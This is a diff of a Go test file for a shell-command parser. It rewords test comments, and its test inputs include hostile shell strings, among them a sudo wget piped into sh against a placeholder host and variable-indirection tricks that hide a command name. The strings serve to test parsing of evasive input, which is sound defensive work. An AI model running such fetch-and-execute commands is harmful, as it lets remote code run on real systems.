@@ -103,7 +103,7 @@ func TestLimits(t *testing.T) {
 	}
 }
 
-// Whatever the text, a megabyte of it has a result within the limits.
+// Any text of a megabyte has a result within the limits.
 func TestHostile(t *testing.T) {
 	p := NewParser(Limits{})
 	p.panics = true
@@ -129,7 +129,7 @@ func TestHostile(t *testing.T) {
 	}
 }
 
-// A parser gives the same script whatever it has parsed before.
+// A parser gives the same script whatever it parsed before.
 func TestReuse(t *testing.T) {
 	texts := []string{"A=wget; $A x", "$A x", "echo id > f; sh f", "sh f", "IFS=,; $x", "a b", hostile("a=b ", 1<<20), "id"}
 	p := NewParser(Limits{})
@@ -144,7 +144,7 @@ func TestReuse(t *testing.T) {
 	}
 }
 
-// Scripts do not change when their parser goes on.
+// Scripts do not change when their parser parses the next.
 func TestScriptsStay(t *testing.T) {
 	p := NewParser(Limits{})
 	first := p.Parse("A=b sudo wget -qO- http://x < in > out | sh")
@@ -182,7 +182,7 @@ func TestCronCommand(t *testing.T) {
 	}
 }
 
-// Mixtures of hostile texts find what repetition of one does not; a text that
+// Mixtures of hostile texts find what repetition of a single one does not. A text that
 // stalls makes this test hang.
 func TestHostileMixes(t *testing.T) {
 	rng := rand.New(rand.NewPCG(1, 2))
